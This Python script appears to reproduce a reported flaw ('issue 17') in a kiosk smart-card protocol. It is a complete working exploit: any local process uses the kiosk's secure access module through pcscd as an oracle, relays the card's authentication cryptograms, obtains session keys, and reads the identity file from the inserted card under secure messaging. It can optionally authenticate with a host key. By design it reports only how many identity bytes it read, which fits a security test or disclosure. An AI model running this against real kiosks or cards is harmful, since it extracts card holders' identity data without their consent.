"""The SAM oracle attack of issue 17, as an outsider writes it from docs/ktpel-card-protocol.md:
any local process drives the kiosk's SAM through pcscd to read the card in the reader.

Standalone on purpose (pyscard and cryptography only, nothing of this project): select the SAM,
relay the card's cryptograms, ask the SAM for the session keys, read EF.IDENTITY under secure
messaging. With --host-key (hex) it first authenticates to the SAM as the documented host
binding says, as a process holding the kiosk's host key could. Prints one JSON line: how far
it got, the status word that stopped it, and how many identity bytes it read (never the bytes).

usage: python oracle_attack.py CARD_READER SAM_READER [--host-key HEX]
"""

from __future__ import annotations

import json
import os
import sys
from typing import Any

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.cmac import CMAC

KTPEL_AID = bytes.fromhex("D360000001") + b"KTPEL"
SAM_AID = bytes.fromhex("D360000001") + b"KTPSAM"


def cmac(key: bytes, data: bytes) -> bytes:
    mac = CMAC(algorithms.AES(key))
    mac.update(data)
    return bytes(mac.finalize())


def kdf(key: bytes, label: bytes, context: bytes) -> bytes:
    return cmac(key, b"\x01" + label + b"\x00" + context + b"\x00\x80")


def pad(data: bytes) -> bytes:
    return data + b"\x80" + bytes(15 - len(data) % 16)


def aes(key: bytes, mode: Any, data: bytes, decrypt: bool = False) -> bytes:
    cipher = Cipher(algorithms.AES(key), mode)
    if decrypt:
        dec = cipher.decryptor()
        return dec.update(data) + dec.finalize()
    enc = cipher.encryptor()
    return enc.update(data) + enc.finalize()


class Stop(Exception):
    def __init__(self, stage: str, sw: int | None = None, **more: Any) -> None:
        super().__init__(stage)
        self.report = {"stage": stage, "sw": f"{sw:04X}" if sw is not None else None, **more}


def send(conn: Any, header: bytes, data: bytes = b"", le: int | None = None) -> tuple[bytes, int]:
    apdu = list(header) + ([len(data), *data] if data else []) + ([le] if le is not None else [])
    resp, sw1, sw2 = conn.transmit(apdu)
    return bytes(resp), (sw1 << 8) | sw2


def tlv_value(blob: bytes, tag: int) -> bytes:
    """The value of the first primitive object `tag` (1 byte) found scanning `blob`."""
    i = 0
    while i < len(blob):
        t, n = blob[i], blob[i + 1]
        i += 2
        if n == 0x81:
            n, i = blob[i], i + 1
        elif n == 0x82:
            n, i = int.from_bytes(blob[i : i + 2], "big"), i + 2
        if t == tag:
            return blob[i : i + n]
        if t & 0x20:  # constructed: look inside
            continue
        i += n
    raise Stop("parse", tag=tag)


def host_auth(sam: Any, host_key: bytes) -> tuple[bytes, bytes]:
    rnd_s, sw = send(sam, b"\x80\x84\x00\x00", le=16)
    if sw != 0x9000:
        raise Stop("get_challenge", sw)
    rnd_h = os.urandom(16)
    ctx = rnd_s + rnd_h
    _, sw = send(sam, b"\x80\x82\x00\x00", rnd_h + kdf(host_key, b"HAUT", ctx), le=0)
    if sw != 0x9000:
        raise Stop("authenticate_host", sw)
    return kdf(host_key, b"WENC", ctx), kdf(host_key, b"WMAC", ctx)


def read_identity(card: Any, keys: bytes) -> int:
    ks_enc, ks_mac, ssc = keys[:16], keys[16:32], int.from_bytes(keys[32:48], "big")
    fcp, sw = send(card, b"\x00\xa4\x02\x04", b"\x01\x01", le=0)
    if sw != 0x9000:
        raise Stop("select_identity", sw)
    size, got = int.from_bytes(tlv_value(fcp, 0x80), "big"), b""
    while len(got) < size:
        want, off = min(0xDF, size - len(got)), len(got)
        header = bytes((0x0C, 0xB0, off >> 8, off & 0xFF))
        do97 = bytes((0x97, 1, want))
        ssc += 1
        mac = cmac(ks_mac, pad(ssc.to_bytes(16, "big") + pad(header) + do97))[:8]
        resp, sw = send(card, header, do97 + b"\x8e\x08" + mac, le=0)
        ssc += 1
        if sw != 0x9000:
            raise Stop("read_binary", sw, identity_bytes=len(got))
        body = tlv_value(resp, 0x87)[1:]
        iv = aes(ks_enc, modes.ECB(), ssc.to_bytes(16, "big"))
        plain = aes(ks_enc, modes.CBC(iv), body, decrypt=True)
        got += plain[: plain.rindex(b"\x80")]
    return len(got)


def attack(card_name: str, sam_name: str, host_key: bytes | None) -> dict[str, Any]:
    from smartcard.System import readers

    try:
        found = {str(r): r for r in readers()}
    except Exception as err:  # pcscd out of reach
        raise Stop("pcscd", error=type(err).__name__) from None
    card_r = next((r for n, r in found.items() if card_name in n), None)
    sam_r = next((r for n, r in found.items() if sam_name in n), None)
    if card_r is None or sam_r is None:
        raise Stop("readers", readers=len(found))
    card, sam = card_r.createConnection(), sam_r.createConnection()
    card.connect()
    sam.connect()
    fci, sw = send(card, b"\x00\xa4\x04\x00", KTPEL_AID, le=0)
    if sw != 0x9000:
        raise Stop("select_card", sw)
    serial = tlv_value(fci, 0xC0)
    _, sw = send(sam, b"\x00\xa4\x04\x0c", SAM_AID)
    if sw != 0x9000:
        raise Stop("select_sam", sw)
    wrap = host_auth(sam, host_key) if host_key else None
    rnd_ic, sw = send(card, b"\x00\x84\x00\x00", le=8)
    if sw != 0x9000:
        raise Stop("get_challenge_card", sw)
    host_crypt, sw = send(sam, b"\x80\x8a\x00\x00", serial + rnd_ic, le=0)
    if sw != 0x9000:
        raise Stop("init_auth", sw)
    card_crypt, sw = send(card, b"\x00\x82\x00\x00", host_crypt, le=0)
    if sw != 0x9000:
        raise Stop("mutual_auth", sw)
    keys, sw = send(sam, b"\x80\x8c\x00\x00", card_crypt, le=0)
    if sw != 0x9000:
        raise Stop("verify_card", sw)
    if wrap is not None:
        e = keys[:48]
        if cmac(wrap[1], e)[:8] != keys[48:]:
            raise Stop("unwrap", sw)
        keys = aes(wrap[0], modes.CBC(bytes(16)), e, decrypt=True)
    if len(keys) != 48:
        raise Stop("session_keys", sw, length=len(keys))
    return {"stage": "read", "sw": "9000", "identity_bytes": read_identity(card, keys)}


def main() -> None:
    args = sys.argv[1:]
    host_key = None
    if "--host-key" in args:
        i = args.index("--host-key")
        host_key = bytes.fromhex(args[i + 1])
        del args[i : i + 2]
    try:
        report = attack(args[0], args[1], host_key)
    except Stop as stop:
        report = stop.report
    print(json.dumps(report))


if __name__ == "__main__":
    main()
